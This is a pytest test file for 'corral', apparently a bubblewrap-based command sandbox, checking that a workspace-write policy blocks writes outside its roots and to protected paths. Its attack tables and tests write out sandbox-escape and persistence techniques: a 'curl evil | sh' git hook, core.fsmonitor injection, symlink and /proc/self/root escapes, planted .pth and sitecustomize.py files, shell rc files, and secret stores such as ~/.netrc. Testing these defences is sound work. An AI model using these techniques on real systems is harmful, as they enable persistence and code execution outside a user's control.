"""workspace-write: the command writes beneath its roots, and nowhere else.

Every attack is really attempted and must fail; where the same command is
cheap to run unsandboxed, the control shows it succeeds there.  The
workspace is a git repository in /var/tmp (outside the sandbox's private
/tmp), next to a directory the command must not touch.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import corral
from conftest import CAP_CHOWN, caller_holds
from corral.sandbox.bwrap import find_bwrap
from corral.sandbox.guards import runtime_dir_path
from corral.sandbox.probe import probe_machine

PYTHON_VENV = sys.executable
_BWRAP = probe_machine().bwrap
pytestmark = pytest.mark.skipif(not _BWRAP.available, reason=f"no usable bwrap: {_BWRAP.detail}")

GIT = "git -c user.name=agent -c user.email=agent@example.com"


@pytest.fixture(autouse=True)
def every_test_both_ways(binds_made_by: str) -> str:
    """Every test runs twice: with the protected paths bound by corral's init
    and by bwrap itself (see conftest's ``binds_made_by``)."""
    return binds_made_by


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
                          cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(host_dir: Path) -> Iterator[Path]:
    """A git repository with a commit, a hook, a .gitmodules and a .vscode."""
    ws = host_dir / "ws"
    ws.mkdir()
    _git(ws, "init", "-q")
    (ws / "README").write_text("hello\n")
    (ws / ".gitmodules").write_text("")
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "settings.json").write_text("{}\n")
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    _git(ws, "add", "-A")
    _git(ws, "commit", "-qm", "first")
    (host_dir / "outside").mkdir()
    (host_dir / "outside" / "file").write_text("original\n")
    yield ws


def _tree(root: Path) -> dict[str, bytes]:
    """Every path under ``root`` (but .git's objects) with its content."""
    found = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if rel.startswith(".git/objects") or rel.startswith(".git/logs"):
            continue
        found[rel] = path.read_bytes() if path.is_file() and not path.is_symlink() else b"<dir>"
    return found


def sandboxed(argv: list[str], cwd: Path, **kwargs: object) -> corral.ExecResult:
    return corral.run(argv, cwd=cwd, timeout=30, **kwargs)  # type: ignore[arg-type]


def test_workspace_write_is_the_default(repo):
    result = sandboxed(["sh", "-c", 'echo "$CORRAL_SANDBOX"; echo new > made'], repo)
    assert result.policy == "workspace-write" and result.sandbox == "bwrap"
    assert result.exit_code == 0 and result.stdout == "bwrap\n"
    assert (repo / "made").read_text() == "new\n"


def test_work_inside_the_root_is_unaffected(repo):
    script = ("set -e; echo a > a; echo b >> a; mkdir -p d/e; mv a d/e/a; ln -s d/e/a link; "
              "cat link; rm -r d link; : > README; echo $TMPDIR; echo t > $TMPDIR/t")
    result = sandboxed(["sh", "-c", script], repo)
    assert result.exit_code == 0, result.aggregated_output
    assert result.stdout == "a\nb\n/tmp\n"
    assert (repo / "README").read_text() == ""


def test_a_file_cannot_be_given_away_and_the_refusal_is_reported(repo):
    """chown to another user (chown -R app:app, as root in a container):
    no sandboxed process may; to its own user, or only the group, it may."""
    (repo / "mine").write_text("x\n")
    python = os.path.realpath(sys.executable)  # outside /tmp, which the sandbox replaces
    give = f"{python} -c 'import os; os.chown(\"mine\", 4242, -1)'"
    keep = f"{python} -c 'import os; os.chown(\"mine\", os.getuid(), -1)'"
    result = sandboxed(["sh", "-c", f"{keep} && {give}"], repo)
    assert result.exit_code == 1 and "Operation not permitted" in result.stderr
    # Reported where the caller holds CAP_CHOWN (root): a user may not give
    # a file away on the host either.
    holds = caller_holds(CAP_CHOWN)
    assert [(d.kind.value, d.target in ("chown", "fchownat")) for d in result.denials] == (
        [("privilege", True)] if holds else [])
    assert (repo / "mine").stat().st_uid == os.getuid()
    control = corral.run(["sh", "-c", give], cwd=repo, policy="full-access")
    assert (control.exit_code == 0) == holds and ((repo / "mine").stat().st_uid == 4242) == holds


OUTSIDE_ATTACKS = {
    "create": 'echo evil > "$O/new"',
    "append": 'echo evil >> "$O/file"',
    "truncate": ': > "$O/file"',
    "delete": 'rm "$O/file"',
    "mkdir": 'mkdir "$O/dir"',
    "move out": 'echo evil > inside && mv inside "$O/moved"',
    "move in": 'mv "$O/file" stolen',
    "hard link then write": 'ln "$O/file" hard && echo evil >> hard',
    "symlink inside pointing out": 'ln -sf "$O/file" link && echo evil >> link',
    "via /proc/self/root": 'echo evil >> "/proc/self/root$O/file"',
    "parent of the root": 'echo evil > ../sibling',
}


@pytest.mark.parametrize("attack", OUTSIDE_ATTACKS.values(), ids=OUTSIDE_ATTACKS.keys())
def test_no_write_outside_the_roots(repo, attack):
    outside = repo.parent / "outside"
    script = f'O={outside}; echo started; {attack}'
    result = sandboxed(["sh", "-c", script], repo)
    assert result.stdout.startswith("started") and result.exit_code != 0
    assert sorted(p.name for p in outside.iterdir()) == ["file"]
    assert (outside / "file").read_text() == "original\n"
    assert not (repo.parent / "sibling").exists()
    control = sandboxed(["sh", "-c", script], repo, policy="full-access")
    assert control.exit_code == 0, control.aggregated_output


def test_host_tmp_and_shared_memory_are_not_reachable(repo):
    marker = f"corral-ww-{os.getpid()}"
    Path("/dev/shm", marker).write_text("host\n")
    try:
        result = sandboxed(["sh", "-c", f"cat /dev/shm/{marker}; echo x > /dev/shm/{marker}; "
                                        f"echo x > /tmp/{marker}; cat /tmp/{marker}"], repo)
        assert "host" not in result.stdout and result.stdout == "x\n"
        assert Path("/dev/shm", marker).read_text() == "host\n"
        assert not Path("/tmp", marker).exists()
    finally:
        os.unlink(f"/dev/shm/{marker}")


_SYSTEM_VIEW = ("cd /dev && for f in * shm/* pts/*; do stat -c '%n %F %a %t:%T' \"$f\"; "
                "[ -L \"$f\" ] && readlink \"$f\"; done; "
                "awk '$5 ~ \"^/(dev|proc)(/|$)\" {print $4, $5}' /proc/self/mountinfo")
_TUNABLES = ("/sys /proc/sys", "/sysrq-trigger /proc/sysrq-trigger", "/irq /proc/irq",
             "/bus /proc/bus")


def test_dev_and_proc_are_what_bwrap_makes_them(repo, binds_made_by):
    """/dev and /proc, which corral's init makes where bwrap would, are as
    bwrap makes them (the control: bwrap's own --dev and --proc), but for
    the kernel's tunables, all read-only for any user (for root only where
    bwrap makes them: another user's sandbox cannot write them); and they work:
    devices read and written, a terminal of the sandbox's own, a /proc of
    its own PID namespace."""
    control = subprocess.run(
        [find_bwrap(), "--unshare-all", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
         "--", "sh", "-c", _SYSTEM_VIEW], capture_output=True, text=True, check=True)
    script = (f"{_SYSTEM_VIEW}; echo x > /dev/null && head -c 3 /dev/urandom | wc -c && "
              "ls /proc | grep -c '^[0-9]'")
    code = ("import os, subprocess; "
            "subprocess.run(['sh', '-c', os.environ['SCRIPT']], check=True); "
            "print(os.ttyname(os.openpty()[1]))")
    result = sandboxed([PYTHON_VENV, "-c", code], repo, env={**os.environ, "SCRIPT": script})
    assert result.exit_code == 0, result.aggregated_output
    *view, random_bytes, processes, terminal = result.stdout.splitlines()
    assert {line for line in view if line not in _TUNABLES} == {
        line for line in control.stdout.splitlines() if line not in _TUNABLES}
    if binds_made_by == "init" or os.geteuid() == 0:
        assert {line for line in _TUNABLES if os.path.exists(line.split()[1])} <= set(view)
    assert (random_bytes, terminal) == ("3", "/dev/pts/0") and int(processes) < 10


def test_a_terminal_is_the_sandbox_console(repo):
    """On a terminal (an MCP session's ``tty``), the command finds its
    terminal's name, /dev/console, as under bwrap's own /dev: the host's
    /dev/pts/N is not in the sandbox's devpts."""
    import threading

    leader, follower = os.openpty()
    seen: list[bytes] = []

    def read() -> None:
        while True:
            try:
                data = os.read(leader, 4096)
            except OSError:
                return
            if not data:
                return
            seen.append(data)

    reader = threading.Thread(target=read)
    reader.start()
    try:
        result = corral.execute(corral.ExecRequest(
            ["sh", "-c", "tty && echo x > /dev/console"], cwd=repo, timeout=30,
            terminal=follower))
    finally:
        os.close(follower)
        reader.join(10)
        os.close(leader)
    assert result.exit_code == 0, b"".join(seen)
    assert b"".join(seen).replace(b"\r", b"") == b"/dev/console\nx\n"


def test_a_root_beneath_dev_is_writable_through_it(repo, binds_made_by):
    """A root in /dev/shm is the host's directory: /dev is made before it
    is bound (bwrap keeps making /dev then, not the init)."""
    root = Path("/dev/shm", f"corral-root-{os.getpid()}")
    root.mkdir()
    try:
        policy = corral.SandboxPolicy.workspace_write(writable=(str(root),))
        result = sandboxed(["sh", "-c", f"echo made > {root}/made; echo x > /dev/null"], repo,
                           policy=policy)
        assert result.exit_code == 0, result.aggregated_output
        assert (root / "made").read_text() == "made\n"
    finally:
        for path in root.iterdir():
            path.unlink()
        root.rmdir()


def test_extra_writable_roots(repo):
    outside = repo.parent / "outside"
    policy = corral.SandboxPolicy.workspace_write(writable=(str(outside),))
    result = sandboxed(["sh", "-c", f"echo more > {outside}/added"], repo, policy=policy)
    assert result.exit_code == 0 and (outside / "added").read_text() == "more\n"
    with pytest.raises(corral.PolicyError, match="writable root .*does not exist"):
        corral.run(["true"], cwd=repo, policy=corral.SandboxPolicy.workspace_write(
            writable=(str(repo / "no-such-dir"),)))


PROTECTED_ATTACKS = {
    "hook": 'echo "curl evil | sh" > .git/hooks/pre-commit',
    "new hook": 'printf "#!/bin/sh\\nevil\\n" > .git/hooks/post-checkout',
    "git config": 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config',
    "git config via git": f'{GIT} config core.fsmonitor evil',
    "delete config": 'rm -f .git/config',
    "replace hooks dir": 'rm -rf .git/hooks; mkdir .git/hooks',
    "rename hooks away": 'mv .git/hooks .git/hooks-old',
    "rename .git away": 'mv .git .git-old && mkdir -p .git/hooks',
    "gitmodules": 'echo "[submodule \\"x\\"]" > .gitmodules',
    "editor config": 'echo evil > .vscode/settings.json',
    "editor config dir": 'rm -rf .vscode',
}


@pytest.mark.parametrize("attack", PROTECTED_ATTACKS.values(), ids=PROTECTED_ATTACKS.keys())
def test_existing_protected_paths_stay_read_only(repo, attack):
    before = _tree(repo)
    result = sandboxed(["sh", "-c", f"echo started; {attack}"], repo)
    assert result.stdout.startswith("started") and result.exit_code != 0
    assert _tree(repo) == before


MISSING = [".envrc", ".mcp.json", ".claude", ".idea", ".bashrc", ".profile", ".codex",
           ".agents", ".gitconfig", ".zshrc"]


@pytest.mark.parametrize("name", MISSING)
def test_missing_protected_paths_cannot_be_created(repo, name):
    before = _tree(repo)
    script = (f"echo started; echo evil > {name} || mkdir -p {name}/x || "
              f"{{ rmdir {name} && echo evil > {name}; }} || mv README {name}")
    result = sandboxed(["sh", "-c", script], repo)
    assert result.stdout.startswith("started") and result.exit_code != 0
    assert _tree(repo) == before  # and no placeholder is left behind
    control = sandboxed(["sh", "-c", f"echo evil > {name}"], repo, policy="full-access")
    assert control.exit_code == 0 and (repo / name).read_text() == "evil\n"


HOME_ONLY = [".zshenv", ".zlogin", ".zlogout", ".bash_login", ".bash_logout", ".config/git/config"]


@pytest.mark.parametrize("name", HOME_ONLY)
def test_what_a_shell_or_git_reads_from_the_home_cannot_be_made_there(host_dir, monkeypatch,
                                                                      name):
    """With the home directory the working directory: the start-up files of
    login shells and zsh, and git's XDG configuration (whose core.fsmonitor
    a host ``git status`` runs), as ``.bashrc`` and ``.gitconfig``."""
    home = host_dir / "home"
    (home / ".config").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    write = f"mkdir -p $(dirname {name}) && echo evil > {name}"
    result = sandboxed(["sh", "-c", f"echo started; {write}"], home)
    assert result.stdout.startswith("started") and result.exit_code != 0
    assert not (home / name).exists()
    assert sorted(os.listdir(home)) == [".config"] and os.listdir(home / ".config") == []
    control = sandboxed(["sh", "-c", write], home, policy="full-access")
    assert control.exit_code == 0 and (home / name).read_text() == "evil\n"


def test_a_dangling_protected_link_cannot_be_written_through(repo, binds_made_by):
    """A dangling link used to fail every run here; what it names inside the
    root is protected as a missing path, what it names elsewhere cannot be made.
    The link itself is protected by corral's init; bwrap alone cannot, so
    there the caller must accept that, or the run is refused."""
    (repo / ".envrc").symlink_to("envrc.real")
    (repo / ".profile").symlink_to("/nonexistent/corral-profile")
    script = ["sh", "-c", "echo started; echo x > .envrc; echo x > .profile; rm .envrc; "
              "echo ok > made"]
    accepted = {}
    if binds_made_by == "bwrap":
        with pytest.raises(corral.PolicyError, match=r"/(\.envrc|\.profile) is a symbolic link"):
            sandboxed(script, repo)
        assert not (repo / "made").exists()
        accepted = {"policy": corral.SandboxPolicy.workspace_write(
            accept_weaker=("unprotected-paths",))}
    result = sandboxed(script, repo, **accepted)
    assert result.stdout == "started\n" and result.exit_code == 0, result.aggregated_output
    assert (repo / "made").exists() and not os.path.lexists(repo / "envrc.real")
    if binds_made_by == "init":
        assert (repo / ".envrc").is_symlink()
        assert {(d.target, d.evidence.split("(")[0]) for d in result.denials} >= {
            (str(repo / "envrc.real"), "openat"), (str(repo / ".envrc"), "unlinkat")}
    else:  # accepted: the link could be removed
        assert not os.path.lexists(repo / ".envrc")
        (repo / ".envrc").symlink_to("envrc.real")
    control = corral.run(["sh", "-c", "echo x > .envrc"], cwd=repo, policy="full-access")
    assert control.exit_code == 0 and (repo / "envrc.real").read_text() == "x\n"


def test_missing_hooks_directory_cannot_be_created(repo):
    _git(repo, "config", "core.hooksPath", ".git/hooks")
    subprocess.run(["rm", "-rf", str(repo / ".git" / "hooks")], check=True)
    before = _tree(repo)
    result = sandboxed(["sh", "-c", "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"],
                       repo)
    assert result.exit_code != 0 and _tree(repo) == before


def test_git_add_and_commit_work(repo):
    script = f"echo change >> README && echo new > new && {GIT} add -A && {GIT} commit -qm agent"
    result = sandboxed(["sh", "-c", script], repo)
    assert result.exit_code == 0, result.aggregated_output
    assert _git(repo, "log", "--format=%s").split() == ["agent", "first"]
    # Placeholders were never staged: the commit has exactly what the command made.
    assert _git(repo, "show", "--name-only", "--format=").split() == ["README", "new"]
    assert _git(repo, "status", "--porcelain") == ""


def test_a_linked_worktree_commits_but_its_git_metadata_stays_protected(repo):
    worktree = repo.parent / "wt"
    _git(repo, "worktree", "add", "-q", str(worktree))
    common_config = (repo / ".git" / "config").read_text()
    dot_git = (worktree / ".git").read_text()
    script = f"echo wt > wt-file && {GIT} add wt-file && {GIT} commit -qm in-worktree"
    result = sandboxed(["sh", "-c", script], worktree)
    assert result.exit_code == 0, result.aggregated_output
    assert "in-worktree" in _git(worktree, "log", "--format=%s")
    for attack in ['echo evil > "$(git rev-parse --git-common-dir)/hooks/pre-commit"',
                   'echo "[core] fsmonitor = evil" >> "$(git rev-parse --git-common-dir)/config"',
                   'echo "gitdir: /tmp/evil" > .git']:
        attempt = sandboxed(["sh", "-c", attack], worktree)
        assert attempt.exit_code != 0, attack
    assert (repo / ".git" / "config").read_text() == common_config
    assert (worktree / ".git").read_text() == dot_git
    assert not (repo / ".git" / "hooks" / "pre-commit").read_text().count("evil")


def test_concurrent_runs_share_placeholders_safely(repo):
    """The first run to end must not remove a placeholder the second relies on."""
    before = _tree(repo)
    gate = repo.parent / "gate"
    long = corral.run_async(
        ["sh", "-c", f"while [ ! -e {gate} ]; do sleep 0.02; done; "
                     "echo evil > .envrc && exit 9; echo evil > .claude && exit 9; ls -a"],
        cwd=repo, timeout=30,
    )
    import asyncio

    async def scenario() -> corral.ExecResult:
        task = asyncio.ensure_future(long)
        await asyncio.sleep(0.5)
        short = await corral.run_async(["true"], cwd=repo, timeout=30)
        assert short.exit_code == 0
        gate.write_text("")
        return await task

    result = asyncio.run(scenario())
    assert result.exit_code == 0 and ".envrc" in result.stdout.split()
    gate.unlink()
    assert _tree(repo) == before


def test_a_shared_placeholder_outlives_the_run_that_made_it(repo):
    """The run that made a placeholder ends first; the one sharing it must stay protected."""
    before = _tree(repo)
    made, shared_started, go = (repo.parent / name for name in ("made", "shared", "go"))
    import asyncio

    async def scenario() -> tuple[corral.ExecResult, corral.ExecResult]:
        maker = asyncio.ensure_future(corral.run_async(
            ["sh", "-c", f"touch {made}.inside; while [ ! -e {shared_started} ]; do sleep 0.02; "
                         "done"], cwd=repo, timeout=30,
            policy=corral.SandboxPolicy.workspace_write(writable=(str(repo.parent),))))
        while not Path(f"{made}.inside").exists():
            await asyncio.sleep(0.02)
        sharer = asyncio.ensure_future(corral.run_async(
            ["sh", "-c", f"touch {shared_started}; while [ ! -e {go} ]; do sleep 0.02; done; "
                         "echo evil > .envrc && exit 9; ls -a"], cwd=repo, timeout=30,
            policy=corral.SandboxPolicy.workspace_write(writable=(str(repo.parent),))))
        first = await maker  # ends as soon as the sharer has started
        assert (repo / ".envrc").is_socket()  # still there: the sharer uses it
        go.write_text("")
        return first, await sharer

    first, second = asyncio.run(scenario())
    assert first.exit_code == 0
    assert second.exit_code == 0 and ".envrc" in second.stdout.split()
    for leftover in (Path(f"{made}.inside"), shared_started, go):
        leftover.unlink()
    assert _tree(repo) == before


def test_no_placeholder_survives_a_sigkilled_corral(repo):
    before = _tree(repo)
    host = textwrap.dedent(
        f"""
        import corral
        corral.run(["sh", "-c", "echo ready; sleep 31.4159"], cwd={str(repo)!r}, timeout=None,
                   on_output=lambda event: print(event.data.decode(), end="", flush=True))
        """
    )
    proc = subprocess.Popen([PYTHON_VENV, "-c", host], stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
        assert (repo / ".envrc").is_socket()  # the placeholder exists while the run lasts
        proc.kill()
        proc.wait()
        deadline = time.monotonic() + 10
        while _tree(repo) != before and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _tree(repo) == before
        records = [n for n in os.listdir(runtime_dir_path()) if n.startswith(f"run-{proc.pid}-")]
        assert records == []
    finally:
        proc.kill()


def test_a_placeholder_swept_while_the_sandbox_is_planned(repo, monkeypatch):
    """Another run's placeholder, there when the workspace is planned, is swept
    (that run just ended) before the sandbox is built: this run makes its own."""
    import stat

    from corral.sandbox import bwrap

    before = _tree(repo)
    os.mknod(repo / ".envrc", 0o444 | stat.S_IFSOCK)  # what a dying run leaves for a moment
    real_plan = bwrap.plan_workspace

    def plan_then_swept(policy, cwd, hidden=None):
        plan = real_plan(policy, cwd, hidden)
        assert str(repo / ".envrc") in plan.protected
        (repo / ".envrc").unlink()
        return plan

    monkeypatch.setattr(bwrap, "plan_workspace", plan_then_swept)
    result = corral.run(["sh", "-c", "echo evil > .envrc && exit 9; ls -a"], cwd=repo, timeout=30)
    assert result.exit_code == 0, result.aggregated_output
    assert ".envrc" in result.stdout.split()
    assert _tree(repo) == before


def test_a_placeholder_someone_replaced_is_kept(repo):
    """Only the placeholder corral made is removed, never what replaced it."""
    gate = repo.parent / "go"
    script = f"touch started; while [ ! -e {gate} ]; do sleep 0.02; done"
    import threading

    def replace() -> None:
        deadline = time.monotonic() + 10
        while not (repo / "started").exists() and time.monotonic() < deadline:
            time.sleep(0.01)  # the sandbox is built: its placeholder is mounted
        (repo / ".envrc").unlink()  # the user, outside the sandbox, writes a real one
        (repo / ".envrc").write_text("use nix\n")
        gate.write_text("")

    thread = threading.Thread(target=replace)
    thread.start()
    result = corral.run(["sh", "-c", script], cwd=repo, timeout=30)
    thread.join()
    assert result.exit_code == 0
    assert (repo / ".envrc").read_text() == "use nix\n"


def test_network_is_off_by_default(repo, tcp_listener):
    host, port = tcp_listener
    code = f"import socket; print(socket.create_connection(({host!r}, {port}), 2).recv(100))"
    result = sandboxed([os.path.realpath(sys.executable), "-c", code], repo)
    assert result.exit_code != 0 and "hello" not in result.stdout
    allowed = sandboxed([os.path.realpath(sys.executable), "-c", code], repo,
                        policy=corral.SandboxPolicy.workspace_write(network=True))
    assert allowed.exit_code == 0 and "hello from the host" in allowed.stdout


def test_cli_default_and_flags(repo):
    outside = repo.parent / "outside"
    corral_cli = [sys.executable, "-m", "corral", "run", "--json"]
    denied = subprocess.run([*corral_cli, "--", "sh", "-c", f"echo x > {outside}/new"], cwd=repo,
                            capture_output=True, text=True)
    assert json.loads(denied.stdout)["exit_code"] != 0 and not (outside / "new").exists()
    allowed = subprocess.run([*corral_cli, "--writable", str(outside), "--", "sh", "-c",
                              f"echo x > {outside}/new"], cwd=repo, capture_output=True, text=True)
    assert json.loads(allowed.stdout)["exit_code"] == 0 and (outside / "new").exists()
    unprotected = subprocess.run([*corral_cli, "--no-default-protect", "--protect", "README",
                                  "--", "sh", "-c", "echo x > .envrc; echo y > README"],
                                 cwd=repo, capture_output=True, text=True)
    assert json.loads(unprotected.stdout)["exit_code"] != 0
    assert (repo / ".envrc").read_text() == "x\n" and (repo / "README").read_text() == "hello\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become nobody")
def test_as_an_unprivileged_user(repo):
    subprocess.run(["chown", "-R", "65534:65534", str(repo.parent)], check=True)
    script = textwrap.dedent(
        f"""
        import json, corral
        inside = corral.run(["sh", "-c", "echo x > made"], cwd={str(repo)!r})
        outside = corral.run(["sh", "-c", "echo x > ../outside/new"], cwd={str(repo)!r})
        envrc = corral.run(["sh", "-c", "echo x > .envrc"], cwd={str(repo)!r})
        print(json.dumps([inside.exit_code, outside.exit_code, envrc.exit_code]))
        """
    )
    drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]
    proc = subprocess.run([*drop, PYTHON_VENV, "-c", script], cwd="/", capture_output=True,
                          text=True, timeout=60, env={**os.environ, "HOME": "/nonexistent"})
    if proc.returncode != 0 and "Permission denied" in proc.stderr:
        pytest.skip("this interpreter is not usable by nobody")
    assert proc.returncode == 0, proc.stderr
    inside, outside, envrc = json.loads(proc.stdout)
    assert inside == 0 and outside != 0 and envrc != 0
    assert (repo / "made").exists() and not (repo.parent / "outside" / "new").exists()
    assert not (repo / ".envrc").exists()
    control = subprocess.run([*drop, "sh", "-c", f"echo x > {repo.parent}/outside/new"], cwd="/")
    assert control.returncode == 0


@pytest.mark.parametrize("attack", [
    "mount -t tmpfs none /mnt", "mount --bind . .git/hooks", "umount .git/hooks",
    "unshare --user --map-root-user true", "chroot / true",
])
def test_privileged_operations_fail(repo, attack):
    """The sandbox init mounts before the command starts; the command cannot."""
    result = sandboxed(["sh", "-c", f"echo started; {attack}"], repo)
    assert result.stdout == "started\n" and result.exit_code != 0
    if os.geteuid() == 0 and not attack.startswith(("umount", "mount --bind")):
        control = corral.run(["unshare", "--mount", "sh", "-c", attack], policy="full-access")
        assert control.exit_code == 0, control.aggregated_output


@pytest.mark.skipif(os.geteuid() != 0, reason="only root could write a global sysctl anyway")
def test_kernel_tunables_stay_read_only_even_for_root(repo):
    # Writes the current value back, so the control changes nothing on the host.
    tunable = "/proc/sys/vm/overcommit_ratio"
    script = f"echo started; cat {tunable} > v && cat v > {tunable} && echo written"
    result = sandboxed(["sh", "-c", script], repo)
    assert result.stdout == "started\n" and result.exit_code != 0
    assert [(d.kind, d.target) for d in result.denials] == [(corral.DenialKind.PRIVILEGE, tunable)]
    control = corral.run(["sh", "-c", script], cwd=repo, policy="full-access")
    assert control.stdout == "started\nwritten\n", control.aggregated_output


def test_the_command_holds_no_capability(repo):
    status = dict(line.split(":\t", 1) for line in
                  sandboxed(["cat", "/proc/self/status"], repo).stdout.splitlines())
    for field in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(status[field], 16) == 0, (field, status[field])
    assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
    # The control: what bwrap hands the init, had the init kept it.
    kept = subprocess.run([find_bwrap(), "--unshare-all", "--unshare-user", "--ro-bind", "/", "/",
                           "--proc", "/proc", "--dev", "/dev", "--cap-drop", "ALL", "--cap-add",
                           "CAP_SYS_ADMIN", "grep", "CapEff", "/proc/self/status"],
                          capture_output=True, text=True, check=True).stdout
    assert int(kept.split()[1], 16) != 0


def test_a_bind_that_fails_is_a_setup_error(repo, monkeypatch):
    from corral.sandbox.bwrap import BwrapBackend

    real = BwrapBackend._protect

    def broken(*args):  # type: ignore[no-untyped-def]
        binds, hold = real(*args)
        return [*binds, ("--ro-bind", str(repo / "gone" / "x"))], hold

    monkeypatch.setattr(BwrapBackend, "_protect", staticmethod(broken))
    with pytest.raises(corral.SandboxSetupError, match=r"could not be set up: .*gone/x: No such"):
        sandboxed(["sh", "-c", "echo ran > ran"], repo)
    assert not (repo / "ran").exists()


def test_a_protected_path_under_a_denied_directory(repo):
    """A denied directory's cover hides its protected paths: nothing to bind there."""
    policy = corral.SandboxPolicy.workspace_write(deny_read=(str(repo / ".git"),))
    result = sandboxed(["sh", "-c", "echo started; cat .git/config || echo unreadable; "
                        "echo x > .git/config || echo unwritable; echo ok > made"], repo,
                       policy=policy)
    assert result.stdout == "started\nunreadable\nunwritable\n", result.aggregated_output
    assert (repo / "made").read_text() == "ok\n" and "x" not in (repo / ".git" / "config").read_text()


def test_an_argv0_override(repo, binds_made_by, monkeypatch):
    from corral.sandbox import bwrap

    # The init execs the command itself, with any bwrap.
    assert sandboxed(["sh", "-c", "echo $0"], repo, arg0="custom").stdout == "custom\n"
    if binds_made_by == "bwrap":  # and without the init, bwrap must do it
        backend = bwrap.bwrap_backend()
        assert backend is not None
        monkeypatch.setattr(bwrap, "bwrap_backend", lambda: bwrap.BwrapBackend(backend.path))
        if backend.version() < (0, 9):
            with pytest.raises(corral.PolicyError, match="0.9"):
                sandboxed(["sh", "-c", "echo $0"], repo, arg0="custom")
        else:
            assert sandboxed(["sh", "-c", "echo $0"], repo, arg0="custom").stdout == "custom\n"


def test_corrals_own_installation_is_protected():
    """A .pth file or a changed module there would run, unsandboxed, in the next corral."""
    prefix = os.path.realpath(sys.prefix)
    planted = os.path.join(prefix, "corral-planted.pth")
    result = corral.run(["sh", "-c", f"echo 'import os' > {planted}"],
                        cwd=os.path.dirname(prefix), timeout=30)
    assert result.exit_code != 0 and not os.path.exists(planted)
    assert [(d.kind, d.target) for d in result.denials] == [(corral.DenialKind.WRITE, planted)]


@pytest.mark.parametrize("prefix", ["base_prefix", "exec_prefix", "base_exec_prefix"])
def test_the_python_corral_runs_on_is_protected(repo, monkeypatch, prefix):
    """A virtual environment's standard library is its base interpreter's (a
    pyenv, uv or conda Python under the home, the home a root): a
    sitecustomize module written there would run, unsandboxed, in the next
    corral.  The interpreter is put in the workspace by naming it there."""
    base = repo / "python"
    (base / "lib" / "python3").mkdir(parents=True)
    planted = base / "lib" / "python3" / "sitecustomize.py"
    attack = ["sh", "-c", f"echo 'import os' > {planted}"]
    control = sandboxed(attack, repo)  # while it is not corral's
    assert control.exit_code == 0 and planted.exists(), control.aggregated_output
    planted.unlink()
    monkeypatch.setattr(sys, prefix, str(base))
    result = sandboxed(attack, repo)
    assert result.exit_code != 0 and not planted.exists()
    assert [(d.kind, d.target) for d in result.denials] == [(corral.DenialKind.WRITE,
                                                             str(planted))]


@pytest.mark.parametrize("missing", [False, True], ids=["existing", "no ~/.local/lib yet"])
def test_the_users_site_packages_are_protected_where_python_reads_them(repo, monkeypatch,
                                                                       missing):
    """Outside a virtual environment Python reads the user's site-packages
    (``~/.local/lib/python3.X/site-packages``, the home a root) at every
    start: a .pth file written there would run, unsandboxed, in the next
    corral.  Where ``~/.local/lib`` is missing it cannot be made, though
    ``~/.local`` is a directory many programs share (which stays writable),
    and nothing is left of its placeholder.  While this interpreter does
    not read a user site, it is the command's (the control)."""
    import site

    (repo / ".local").mkdir()
    user_site = repo / ".local" / "lib" / "python3.11" / "site-packages"
    if not missing:
        user_site.mkdir(parents=True)
    planted = user_site / "corral-planted.pth"
    attack = ["sh", "-c", f"mkdir -p {user_site} && echo 'import os' > {planted}"]
    monkeypatch.setattr(site, "USER_SITE", str(user_site))
    monkeypatch.setattr(site, "ENABLE_USER_SITE", False)
    control = sandboxed(attack, repo)
    assert control.exit_code == 0 and planted.exists(), control.aggregated_output
    if missing:
        shutil.rmtree(repo / ".local" / "lib")
    else:
        planted.unlink()
    monkeypatch.setattr(site, "ENABLE_USER_SITE", True)
    result = sandboxed(attack, repo)
    assert result.exit_code != 0 and not planted.exists()
    refused = repo / ".local" / "lib" if missing else planted
    assert [(d.kind, d.target) for d in result.denials] == [(corral.DenialKind.WRITE,
                                                             str(refused))]
    assert os.listdir(repo / ".local") == ([] if missing else ["lib"])
    shared = sandboxed(["sh", "-c", "mkdir -p .local/share/tool && echo ok"], repo)
    assert shared.stdout == "ok\n", shared.aggregated_output


@pytest.mark.parametrize("where", ["src", "bin"])
def test_every_directory_python_imports_from_is_protected(repo, monkeypatch, where):
    """An editable install's ``src`` (a ``.pth`` file puts it on sys.path,
    after the standard library: a ``sitecustomize.py`` there runs at the
    next start), or the directory of the program Python runs
    (``~/.local/bin`` of ``pip install --user``, first on sys.path: any
    module there does), inside a root: written, the next corral would run
    it.  Off sys.path, it is the command's (the control)."""
    directory = repo / where
    directory.mkdir()
    planted = directory / ("sitecustomize.py" if where == "src" else "json.py")
    attack = ["sh", "-c", f"echo 'import os' > {planted}"]
    control = sandboxed(attack, repo)
    assert control.exit_code == 0 and planted.exists(), control.aggregated_output
    planted.unlink()
    searched = [*sys.path, str(directory)] if where == "src" else [str(directory), *sys.path]
    monkeypatch.setattr(sys, "path", searched)
    result = sandboxed(attack, repo)
    assert result.exit_code != 0 and not planted.exists()
    assert [(d.kind, d.target) for d in result.denials] == [(corral.DenialKind.WRITE,
                                                             str(planted))]


SECRET_STORES = {
    "directory": ("~/.kube/config", "mkdir ~/.kube; : > ~/.kube/config"),
    "file": ("~/.netrc", ": > ~/.netrc"),
    "file in a directory": ("~/.docker/config.json", ": > ~/.docker/config.json"),
}


@pytest.mark.parametrize("store", SECRET_STORES.values(), ids=SECRET_STORES.keys())
